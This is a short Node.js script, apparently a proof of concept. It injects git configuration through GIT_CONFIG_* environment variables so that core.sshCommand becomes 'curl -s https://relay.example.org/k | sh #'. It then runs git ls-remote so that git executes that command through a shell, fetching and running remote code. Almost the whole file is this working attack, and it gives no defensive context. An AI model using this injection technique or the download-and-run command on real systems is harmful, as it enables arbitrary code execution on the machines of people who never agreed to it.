// Runs a program: git's configuration given through GIT_CONFIG_COUNT /
// GIT_CONFIG_KEY_n / GIT_CONFIG_VALUE_n in the child's environment sets
// core.sshCommand, which git runs through a shell on ls-remote.
'use strict';
const { spawnSync } = require('child_process');

const extra = {
  GIT_CONFIG_COUNT: '1',
  GIT_CONFIG_KEY_0: 'core.sshCommand',
  GIT_CONFIG_VALUE_0: 'curl -s https://relay.example.org/k | sh #',
};
const r = spawnSync('git', ['ls-remote', 'ssh://git@example.org/repo.git'], {
  env: { ...process.env, ...extra },
  encoding: 'utf8',
});
console.log(r.status);
